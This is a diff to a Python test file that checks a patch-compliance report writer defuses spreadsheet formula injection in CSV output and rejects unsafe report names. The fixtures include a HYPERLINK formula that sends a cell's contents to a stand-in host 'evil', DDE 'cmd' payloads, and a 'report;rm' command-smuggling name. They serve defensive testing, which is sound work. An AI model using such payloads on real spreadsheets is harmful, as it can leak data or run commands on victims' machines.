@@ -32,9 +32,9 @@ def row(index, status="NON_COMPLIANT", name="App1"):
     }
 
 
-def write(fmt, rows, details=None):
+def write(fmt, rows, details=None, **options):
     stream = io.StringIO()
-    writer = report_writer(fmt, stream, META)
+    writer = report_writer(fmt, stream, META, **options)
     counts = DashboardCounts()
     for item in rows:
         writer.node(item)
@@ -45,12 +45,13 @@ def write(fmt, rows, details=None):
     return stream.getvalue()
 
 
-@pytest.mark.parametrize("name", ["ssm-workshop", "a", "A.b_c-d", "x" * 50])
+@pytest.mark.parametrize("name", ["ssm-workshop", "a", "A.b_c-d", "x" * 50, "report2026", "app1-patches", "fleet-2026-11-30", "2026"])
 def test_valid_report_names(name):
     assert validate_report_name(name) is None
 
 
-@pytest.mark.parametrize("name", ["", "x" * 51, "report 1", "report1", "r/eport", "rapport-é"])
+@pytest.mark.parametrize("name", ["", "x" * 51, "report 1", "r/eport", "rapport-é", "report\n", "report\r\n", "\nreport",
+                                  "report.csv\x00", "report;rm", "report\t", None])
 def test_invalid_report_names(name):
     assert "report_name must be" in validate_report_name(name)
 
@@ -74,6 +75,55 @@ def test_csv_single_node_details():
     assert rows[4] == ["1", "i-00000000000000001", "App1", "kernel.x86_64:0:5.10.1-1.amzn2", "ALAS2-2026-001", "Missing",
                        "2026-11-30T11:00:00Z", "CRITICAL", "Important", "Security", "CVE-2026-1", "pb-0123456789abcdef0",
                        "s3://logs/c-1/i-1/stdout", "10.0.0.1", "Amazon Linux", "2", "3.3.1"]
+
+
+HOSTILE = ("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+           "\t=1+1", "\r=1+1")
+
+
+def hostile_row(value):
+    node = row(1, name=value)
+    node.update(ip_address=value, platform_name=value, platform_version=value, agent_version=value, patch_group=value,
+                baseline_id=value, severity=value)
+    return node
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_csv_defuses_formulas_in_every_cell_from_node_data(value):
+    rows = list(csv.reader(io.StringIO(write("csv", [hostile_row(value)]))))
+    cells = rows[1]
+    # Index, id and status are ours or AWS's fixed words; every text cell from data starts with a quote.
+    assert cells[2:9] == ["'" + value] * 7 and cells[10] == "'" + value
+    # Our own numbers are written as they are.
+    assert cells[0] == "1" and cells[11:17] == ["2", "0", "1", "0", "0", "0"]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_csv_defuses_formulas_in_patch_details(value):
+    item = {"Id": value, "Title": value, "Severity": value, "ExecutionSummary": {"ExecutionTime": value},
+            "Details": {"PatchState": value, "PatchSeverity": value, "Classification": value, "CVEIds": value,
+                        "PatchBaselineId": value}}
+    node = hostile_row(value)
+    rows = list(csv.reader(io.StringIO(write("csv", [node], [detail_row(node, item, value)]))))
+    detail = rows[4]
+    assert detail[0] == "1" and detail[1] == node["instance_id"]
+    assert detail[2:] == ["'" + value] * 15
+
+
+def test_csv_leaves_harmless_values_and_our_numbers_alone():
+    node = row(1, name="App-1 = web")  # an '=' or '-' inside a value is no formula
+    node["non_compliant_counts"] = {"critical": 0, "high": 0, "medium": 0, "low": 0, "informational": 0, "unspecified": 0}
+    cells = list(csv.reader(io.StringIO(write("csv", [node]))))[1]
+    assert cells[2] == "App-1 = web" and cells[11:17] == ["0"] * 6
+
+
+def test_csv_formula_escaping_can_be_turned_off_and_json_carries_raw_values():
+    value = "=1+1"
+    raw = list(csv.reader(io.StringIO(write("csv", [hostile_row(value)], csv_escape_formulas=False))))[1]
+    assert raw[2] == value
+    document = json.loads(write("json", [hostile_row(value)]))
+    assert document["nodes"][0]["name"] == value
 
 
 def test_json_parses_with_rows_and_dashboard():
